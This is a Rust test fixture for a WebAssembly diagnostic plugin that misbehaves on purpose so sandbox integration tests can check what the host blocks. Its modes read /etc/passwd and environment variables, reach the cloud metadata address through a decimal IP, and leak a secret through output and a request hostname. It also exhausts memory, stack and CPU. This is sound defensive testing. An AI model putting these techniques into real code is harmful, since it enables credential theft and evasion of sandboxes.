//! `test.misbehaving`: a check that misbehaves on purpose, as `Test:Mode`
//! says, so the integration tests can prove what the host does about it.
//! It is built from source by the tests and never shipped.
//!
//! Modes (`Test:Mode`):
//! - `pass`: behaves;
//! - `egress`: GET `Test:Url`, which its metadata does not declare as an outbound host;
//! - `huge-body`: GET `Test:Url` and read the whole body, however large;
//! - `declared-loopback` / `declared-metadata`: GET the literal destinations its metadata
//!   declares, `http://localhost` and `http://2852039166` (the decimal form of 169.254.169.254);
//! - `panic`, `trap`, `loop`, `grow-memory`, `recurse`: die in the named way;
//! - `flood`: write 8 MiB to stdout and to stderr, then pass;
//! - `echo-secret`: put `Test:Secret` into the diagnosis and evidence;
//! - `smuggle-secret`: put `Test:Secret` everywhere else it could get out: stdout, stderr, the
//!   likely causes, the remediation, and the host name of a request (which the host logs);
//! - `cut-secret`: write 1000 bytes and then `Test:Secret` to stdout, for an output limit that
//!   cuts through the secret;
//! - `read-undeclared`: read `OCI:Password`, which it did not declare;
//! - `open-file`: try to read `/etc/passwd`;
//! - `read-env`: list the environment variables it can see.

mod bindings {
    wit_bindgen::generate!({
        path: "../../../wit",
        world: "stellaops:doctor/doctor-check",
        generate_all,
    });
}

use bindings::exports::stellaops::doctor::check::Guest;
use bindings::stellaops::doctor::types::{
    CheckMetadata, CheckResult, ConfigKey, EvidenceItem, RemediationStep, Severity,
};
use bindings::wasi::config::store;
use bindings::wasi::http::{outgoing_handler, types as http};

struct Misbehaving;

fn key(name: &str, secret: bool) -> ConfigKey {
    ConfigKey {
        name: name.into(),
        secret,
        description: format!("test setting {name}"),
    }
}

fn result(severity: Severity, diagnosis: String, evidence: Vec<(&str, String)>) -> CheckResult {
    CheckResult {
        severity,
        diagnosis,
        evidence: evidence
            .into_iter()
            .map(|(key, value)| EvidenceItem {
                key: key.into(),
                value,
            })
            .collect(),
        likely_causes: vec![],
        remediation: vec![],
        verification_command: None,
    }
}

fn config(key: &str) -> Option<String> {
    store::get(key).ok().flatten()
}

/// A GET to `url`; `Ok(status)` or the error code's debug text.
fn get(url: &str) -> Result<u16, String> {
    send_get(url).map(|response| response.status())
}

fn send_get(url: &str) -> Result<http::IncomingResponse, String> {
    let (scheme, rest) = url.split_once("://").ok_or("url without scheme")?;
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let request = http::OutgoingRequest::new(http::Fields::new());
    let scheme = if scheme == "https" {
        http::Scheme::Https
    } else {
        http::Scheme::Http
    };
    request.set_scheme(Some(&scheme)).map_err(|()| "scheme")?;
    request
        .set_authority(Some(authority))
        .map_err(|()| "authority")?;
    request
        .set_path_with_query(Some(if path.is_empty() { "/" } else { path }))
        .map_err(|()| "path")?;
    let pending = outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
    pending.subscribe().block();
    let response = pending.get().ok_or("no response")?.map_err(|()| "taken")?;
    response.map_err(|e| format!("{e:?}"))
}

/// A GET to `url` whose body is read to the end; `Ok(bytes read)`.
fn get_body_len(url: &str) -> Result<u64, String> {
    let response = send_get(url)?;
    let body = response.consume().map_err(|()| "body taken")?;
    let stream = body.stream().map_err(|()| "stream taken")?;
    let mut total = 0u64;
    loop {
        match stream.blocking_read(64 * 1024) {
            Ok(chunk) => total += chunk.len() as u64,
            Err(bindings::wasi::io::streams::StreamError::Closed) => break,
            Err(bindings::wasi::io::streams::StreamError::LastOperationFailed(e)) => {
                return Err(e.to_debug_string());
            }
        }
    }
    drop(stream);
    Ok(total)
}

fn egress_result(url: &str) -> CheckResult {
    match get(url) {
        Ok(status) => result(
            Severity::Pass,
            format!("reached {url}"),
            vec![("status_code", status.to_string())],
        ),
        Err(error) => result(
            Severity::Fail,
            format!("request to {url} failed"),
            vec![("error", error)],
        ),
    }
}

/// Recursion the optimiser cannot turn into a loop.
fn recurse(depth: u64) -> u64 {
    let frame = std::hint::black_box([depth; 64]);
    if frame[0] == u64::MAX {
        return depth;
    }
    recurse(depth + 1) + frame[63] % 2
}

impl Guest for Misbehaving {
    fn metadata() -> CheckMetadata {
        CheckMetadata {
            id: "test.misbehaving".into(),
            name: "Misbehaving test check".into(),
            description: "Misbehaves on purpose for the sandbox tests.".into(),
            plugin_id: "stellaops.doctor.tests".into(),
            default_severity: Severity::Fail,
            tags: vec!["test".into()],
            estimated_duration_ms: 10,
            config_keys: vec![
                key("Test:Mode", false),
                key("Test:Url", false),
                key("Test:Secret", true),
            ],
            // Literal destinations: the host must refuse both, since no operator named them.
            outbound_hosts: vec!["http://localhost".into(), "http://2852039166".into()],
            related_checks: vec![],
        }
    }

    fn run() -> CheckResult {
        let mode = config("Test:Mode").unwrap_or_default();
        match mode.as_str() {
            "pass" => result(Severity::Pass, "behaved".into(), vec![]),
            "egress" => egress_result(&config("Test:Url").unwrap_or_default()),
            "huge-body" => {
                let url = config("Test:Url").unwrap_or_default();
                match get_body_len(&url) {
                    Ok(len) => result(
                        Severity::Pass,
                        format!("read {len} bytes"),
                        vec![("body_bytes", len.to_string())],
                    ),
                    Err(error) => result(
                        Severity::Fail,
                        "reading the body failed".into(),
                        vec![("error", error)],
                    ),
                }
            }
            "declared-loopback" => egress_result("http://localhost/"),
            "declared-metadata" => egress_result("http://2852039166/latest/meta-data/"),
            "panic" => panic!("misbehaving check panicked on purpose"),
            "grow-memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "recurse" => {
                let depth = recurse(std::hint::black_box(1));
                result(Severity::Pass, format!("depth {depth}"), vec![])
            }
            "flood" => {
                let line = "flood ".repeat(1 << 10);
                for _ in 0..(8 << 10) / 6 {
                    println!("{line}");
                    eprintln!("{line}");
                }
                result(Severity::Pass, "flooded".into(), vec![])
            }
            "open-file" => match std::fs::read_to_string("/etc/passwd") {
                Ok(text) => result(
                    Severity::Fail,
                    "opened a host file".into(),
                    vec![("file_bytes", text.len().to_string())],
                ),
                Err(error) => result(
                    Severity::Info,
                    "file access refused".into(),
                    vec![("file_error", error.to_string())],
                ),
            },
            "read-env" => {
                let names: Vec<String> = std::env::vars().map(|(name, _)| name).collect();
                result(
                    Severity::Info,
                    format!("{} variables", names.len()),
                    vec![("env_names", names.join(","))],
                )
            }
            "trap" => std::process::abort(),
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "echo-secret" => {
                let secret = config("Test:Secret").unwrap_or_default();
                result(
                    Severity::Fail,
                    format!("the secret is {secret}"),
                    vec![("secret_value", secret)],
                )
            }
            "smuggle-secret" => {
                let secret = config("Test:Secret").unwrap_or_default();
                println!("stdout carries {secret}");
                eprintln!("stderr carries {secret}");
                // Host names are case-insensitive, and the host lowercases them before it logs.
                let request = get(&format!("http://{}.invalid/", secret.to_lowercase()));
                let mut smuggled = result(
                    Severity::Fail,
                    "smuggled the secret".into(),
                    vec![("request", format!("{request:?}"))],
                );
                smuggled.likely_causes = vec![format!("cause {secret}")];
                smuggled.remediation = vec![RemediationStep {
                    title: format!("step {secret}"),
                    commands: vec![format!("echo {}", secret.to_uppercase())],
                }];
                smuggled.verification_command = Some(format!("verify {secret}"));
                smuggled
            }
            "cut-secret" => {
                let secret = config("Test:Secret").unwrap_or_default();
                println!("{}{secret}", ".".repeat(1000));
                result(Severity::Pass, "wrote past the output limit".into(), vec![])
            }
            "read-undeclared" => {
                let seen = config("OCI:Password");
                result(
                    Severity::Info,
                    "read an undeclared key".into(),
                    vec![("undeclared_visible", seen.is_some().to_string())],
                )
            }
            other => result(
                Severity::Skip,
                format!("unknown Test:Mode {other:?}"),
                vec![],
            ),
        }
    }
}

bindings::export!(Misbehaving with_types_in bindings);
